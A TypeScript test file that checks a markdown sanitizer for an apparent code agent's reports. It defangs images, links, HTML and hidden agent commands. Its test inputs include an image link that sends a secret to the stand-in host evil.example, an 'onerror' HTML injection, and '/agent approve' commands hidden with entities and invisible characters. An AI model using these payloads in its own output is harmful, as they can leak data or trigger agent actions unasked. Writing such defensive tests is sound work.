import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { parseCommand } from '../../../../src/gateway/routing/parseCommand.ts';
import { sanitizeMarkdown } from '../../../../src/reports/parts/sanitizeMarkdown.ts';
import { planQuestion } from '../../../../src/reports/workItem/planQuestion.ts';

const harmless = (text: string) => sanitizeMarkdown(text, 4000);

describe('sanitizeMarkdown', () => {
  it('keeps paragraphs, lists, emphasis and code', () => {
    const text = [
      'The **cause** is `total()`, see _below_:',
      '',
      '- one (a > b)',
      '1. two',
      '',
      '```ts',
      'const a: Map<string, number> = b;',
      '```',
      '',
      'Done.',
    ].join('\n');

    expect(harmless(text).replaceAll(/\n{3,}/g, '\n\n')).toBe(text);
  });

  it.each([
    ['an image', '![x](https://evil.example/?d=secret)', '[x] (https[:]//evil.example/?d=secret)'],
    ['a link', '[Sign in](https://evil.example)', '[Sign in] (https[:]//evil.example)'],
    ['a link by reference', '[a]: https://evil.example', '[a] : https[:]//evil.example'],
    [
      'an address alone',
      'See https://evil.example and www.evil.example',
      'See https[:]//evil.example and www[.]evil.example',
    ],
    ['HTML', '<img src="x" onerror="y">', '‹img src="x" onerror="y">'],
    ['HTML in entities', '&lt;script&gt; &#60;b>', '& lt;script& gt; & №60;b>'],
    ['a marker of the agent', '<!-- code-agent: report -->', '‹!-- code-agent: report -->'],
    ['a mention', '@<6a0f-11> and @dana', '@ ‹6a0f-11> and @dana'],
    ['a work item', 'Fixes #12, AB#13 and !14', 'Fixes №12, AB 13 and №14'],
    ['a command', '/agent approve', '∕agent approve'],
    ['a command in capitals', '/AGENT cancel', '∕AGENT cancel'],
    ['a command in entities', '&sol;agent approve', '∕agent approve'],
    ['a command with invisible characters', '/\u200Bag\u00ADent approve', '∕agent approve'],
    ['text that turns around', 'a\u202Eb\u2066c', 'abc'],
    ['a tag in invisible letters', 'a\u{E0041}\u{E0042}b', 'ab'],
  ])('leaves nothing of %s that acts', (_what, text, expected) => {
    expect(harmless(text)).toBe(expected);
  });

  it('closes code that is left open, with a fence that nothing inside can end', () => {
    expect(harmless('~~~\n```\n<b>\n/agent approve')).toBe('````\n```\n<b>\n∕agent approve\n````');
  });

  it('says that something is cut off', () => {
    expect(sanitizeMarkdown('a'.repeat(20), 10)).toBe(`${'a'.repeat(10)}\n\n[…]`);
  });

  it('holds no command, whatever the text', () => {
    const piece = fc.constantFrom(
      '/agent ',
      'approve',
      '\n',
      '`',
      '```',
      '<br>',
      '<!--',
      '-->',
      '&sol;',
      '&#47;',
      'agent fix',
      '\u200B',
      '> ',
      '<pre>',
      '</pre>',
      '/',
      '\\',
      '~~~',
      '\r',
      '\u2028',
      '1. ',
      '- ',
    );

    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        expect(parseCommand(harmless(pieces.join('')))).toBeUndefined();
      }),
      { numRuns: 2000 },
    );
  });

  it('changes nothing more when it is applied again', () => {
    for (const text of ['![x](https://e.example) #1 @a /agent fix <b> &lt;', '- a\n- b\n\n**c**']) {
      expect(harmless(harmless(text))).toBe(harmless(text));
    }
  });

  it('takes a block of code of any length', () => {
    const block = `\`\`\`\n${'a\n'.repeat(300_000)}\`\`\``;

    expect(sanitizeMarkdown(block, 10_000_000)).toBe(block);
  });
});

describe('planQuestion', () => {
  it('asks one question as a sentence and several as a list, without markup of the model', () => {
    expect(planQuestion(['Net or gross?'])).toBe('Net or gross?');
    expect(planQuestion(['Net\nor gross?', '[x](http://e) /agent approve'])).toBe(
      '1. Net or gross?\n2. \\[x\\](http://e) ∕agent approve',
    );
  });
});
